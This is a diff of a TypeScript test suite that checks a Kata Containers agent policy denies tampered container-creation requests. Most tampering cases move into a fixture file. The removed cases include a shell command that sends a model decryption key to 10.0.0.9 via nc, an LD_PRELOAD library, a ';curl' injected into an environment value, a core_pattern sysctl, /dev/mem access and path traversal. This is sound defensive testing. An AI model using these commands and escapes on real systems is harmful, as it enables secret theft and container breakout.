@@ -1,7 +1,8 @@
 import { AGENT_REQUESTS, AgentPolicy, PodSpec } from '../../src/attestation';
 import { agentAllows, describeWithEngine } from '../helpers/rego-engine';
-import { K8sPod, containerId, copyFiles, createContainer, createPause, createSandbox, imageConfigOf, k8sPodOf, sandboxId } from '../helpers/kata-runtime';
+import { K8sPod, containerId, copyFiles, createContainer, createPause, createSandbox, imageConfigOf, k8sPodOf } from '../helpers/kata-runtime';
 import { FETCH_IMAGE, POD, SERVER_IMAGE, facts } from './fixtures/inference-pod';
+import { CONTAINER_TAMPERINGS } from './fixtures/tamperings';
 import { pinned } from './fixtures/values';
 
 type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any -- request JSON is mutated freely in tamperings
@@ -62,58 +63,10 @@ describeWithEngine('pod agent policy, evaluated as the kata agent does', () => {
   });
 
   const containerTamperings: Array<[string, (r: Json) => void]> = [
-    ['other args (a shell that sends a CDH resource out)', (r) => (r.OCI.Process.Args = ['sh', '-c', 'wget -qO- 127.0.0.1:8006/cdh/resource/enkrypt/model/decryption-key | nc 10.0.0.9 80'])],
-    ['one extra argument', (r) => r.OCI.Process.Args.push('--debug')],
-    ['LD_PRELOAD', (r) => env(r).push('LD_PRELOAD=/tmp/evil.so')],
-    ['an extra variable', (r) => env(r).push('APP_MODE_OVERRIDE=1')],
-    ['a declared variable with another value', (r) => (r.OCI.Process.Env = env(r).map((e) => (e.startsWith('MODEL_KEY_URL=') ? 'MODEL_KEY_URL=http://10.0.0.9/' : e)))],
-    ['a declared variable removed', (r) => (r.OCI.Process.Env = env(r).filter((e) => !e.startsWith('MODEL_DIR=')))],
-    ['the image PATH replaced', (r) => (r.OCI.Process.Env = env(r).map((e) => (e.startsWith('PATH=') ? 'PATH=/tmp:/usr/bin' : e)))],
-    ['HOSTNAME of another pod', (r) => (r.OCI.Process.Env = env(r).map((e) => (e.startsWith('HOSTNAME=') ? 'HOSTNAME=evil' : e)))],
-    ['an API service variable that is not an address', (r) => env(r).push('KUBERNETES_SERVICE_PORT=443;curl')],
-    ['empty storages', (r) => (r.storages = [])],
-    ['no image storage', (r) => (r.storages = r.storages.filter((s: Json) => s.driver !== 'image_guest_pull'))],
-    ['another approved image (the init container\'s)', (r) => (r.storages[0].source = r.OCI.Annotations['io.kubernetes.cri.image-name'] = FETCH_IMAGE)],
-    ['another digest', (r) => (r.storages[0].source = r.OCI.Annotations['io.kubernetes.cri.image-name'] = pinned('evil'))],
-    ['an unpinned image', (r) => (r.storages[0].source = r.OCI.Annotations['io.kubernetes.cri.image-name'] = 'registry.example.com/team/server:1.4')],
-    ['the pulled image differs from the annotation', (r) => (r.storages[0].source = pinned('evil'))],
-    ['a second image storage', (r) => r.storages.push({ ...r.storages[0], source: pinned('evil'), mount_point: '/run/kata-containers/x/rootfs' })],
-    ['image metadata that says sandbox', (r) => (r.storages[0].driver_options = [r.storages[0].driver_options[0].replace('"io.kubernetes.cri.container-type":"container"', '"io.kubernetes.cri.container-type":"sandbox"')])],
-    ['the image mounted outside the rootfs', (r) => (r.storages[0].mount_point = '/run/kata-containers/shared/containers/x')],
-    ['a rootfs the host copied in', (r) => (r.OCI.Root.Path = `/run/kata-containers/shared/containers/${r.container_id}/rootfs`)],
-    ['a writable root filesystem', (r) => (r.OCI.Root.Readonly = false)],
-    ['added capabilities', (r) => (r.OCI.Process.Capabilities = { ...r.OCI.Process.Capabilities, Bounding: ['CAP_SYS_ADMIN'], Effective: ['CAP_SYS_ADMIN'], Permitted: ['CAP_SYS_ADMIN'] })],
-    ['an ambient capability', (r) => (r.OCI.Process.Capabilities.Ambient = ['CAP_NET_RAW'])],
-    ['privilege escalation', (r) => (r.OCI.Process.NoNewPrivileges = false)],
-    ['root', (r) => (r.OCI.Process.User = { UID: 0, GID: 0, AdditionalGids: [0], Username: '' })],
-    ['another group', (r) => (r.OCI.Process.User.AdditionalGids = [0, 6])],
-    ['an extra host mount', (r) => r.OCI.Mounts.push({ destination: '/host', source: `/run/kata-containers/shared/containers/${r.container_id}-0123456789abcdef-host`, type_: 'bind', options: ['rbind', 'rprivate', 'rw'] })],
-    ['a copied file mounted over the binary', (r) => r.OCI.Mounts.push({ destination: '/opt/app/bin/server', source: `/run/kata-containers/shared/containers/${r.container_id}-0123456789abcdef-hosts`, type_: 'bind', options: ['rbind', 'rprivate', 'ro'] })],
-    ['/etc/hosts from another container\'s file', (r) => (r.OCI.Mounts.find((m: Json) => m.destination === '/etc/hosts').source = `/run/kata-containers/shared/containers/${sandboxId(k8s)}-0123456789abcdef-hosts`)],
-    ['a volume mounted writable where it is read-only', (r) => (r.OCI.Mounts.find((m: Json) => m.destination === '/models').options = ['rbind', 'rprivate', 'rw'])],
-    ['a declared volume not mounted', (r) => (r.OCI.Mounts = r.OCI.Mounts.filter((m: Json) => m.destination !== '/tmp'))],
-    ['a mount option added', (r) => r.OCI.Mounts.find((m: Json) => m.destination === '/proc').options.push('rw')],
-    ['a volume from another path', (r) => (r.OCI.Mounts.find((m: Json) => m.destination === '/tmp').source = '/run/kata-containers/shared/containers/x/rootfs/local/tmp')],
-    ['an extra local storage', (r) => r.storages.push({ ...r.storages[1], mount_point: r.storages[1].mount_point.replace(/[^/]+$/, 'other') })],
-    ['local storage options changed', (r) => (r.storages[1].options = ['mode=0777', 'fsgid=0'])],
-    ['another namespace', (r) => (r.OCI.Annotations['io.kubernetes.cri.sandbox-namespace'] = 'default')],
-    ['a pod of another Deployment', (r) => (r.OCI.Annotations['io.kubernetes.cri.sandbox-name'] = 'other-7c56d66754-pq9qp')],
-    ['an unknown container name', (r) => (r.OCI.Annotations['io.kubernetes.cri.container-name'] = 'debugger')],
+    ...CONTAINER_TAMPERINGS,
     ['the init container\'s name (its command line differs)', (r) => (r.OCI.Annotations['io.kubernetes.cri.container-name'] = 'fetch-model')],
-    ['a cloud volume the forwarder would format and mount', (r) => (r.OCI.Annotations['io.confidentialcontainers.org.cloud_volumes'] = '{"vol-0":{"mount_point":"/data","lun":"0"}}')],
-    ['a CDI device annotation', (r) => (r.OCI.Annotations['cdi.k8s.io/peer-pods'] = 'nvidia.com/gpu=all')],
-    ['an OCI hook', (r) => (r.OCI.Hooks = { Prestart: [{ Path: '/bin/sh', Args: ['sh', '-c', 'id'], Env: [], Timeout: 0 }], CreateRuntime: [], CreateContainer: [], StartContainer: [], Poststart: [], Poststop: [] })],
-    ['a device', (r) => r.OCI.Linux.Devices.push({ Path: '/dev/mem', Type: 'c', Major: 1, Minor: 1, FileMode: 438, UID: 0, GID: 0 })],
-    ['the VM\'s pid namespace', (r) => r.OCI.Linux.Namespaces.push({ Type: 'pid', Path: '/proc/1/ns/pid' })],
-    ['no mount namespace', (r) => (r.OCI.Linux.Namespaces = r.OCI.Linux.Namespaces.filter((n: Json) => n.Type !== 'mount'))],
-    ['another network namespace', (r) => (r.OCI.Linux.Namespaces.find((n: Json) => n.Type === 'network').Path = '/proc/1/ns/net')],
-    ['the sandbox pid namespace', (r) => (r.sandbox_pidns = true)],
-    ['an unmasked /proc/kcore', (r) => (r.OCI.Linux.MaskedPaths = r.OCI.Linux.MaskedPaths.filter((p: string) => p !== '/proc/kcore'))],
-    ['a sysctl', (r) => (r.OCI.Linux.Sysctl = { 'kernel.core_pattern': '|/tmp/x' })],
-    ['an rlimit', (r) => r.OCI.Process.Rlimits.push({ Type: 'RLIMIT_CORE', Hard: 1e9, Soft: 1e9 })],
-    ['a terminal', (r) => (r.OCI.Process.Terminal = true)],
-    ['another working directory', (r) => (r.OCI.Process.Cwd = '/tmp')],
-    ['a path in the container id', (r) => (r.container_id = r.exec_id = '../../../etc')],
+    ['another approved image (the init container\'s)', (r) => (r.storages[0].source = r.OCI.Annotations['io.kubernetes.cri.image-name'] = FETCH_IMAGE)],
+    ['a volume mounted writable where it is read-only', (r) => (r.OCI.Mounts.find((m: Json) => m.destination === '/models').options = ['rbind', 'rprivate', 'rw'])],
   ];
 
   test.each(containerTamperings)('denies a container with %s', (_name, tamper) => {
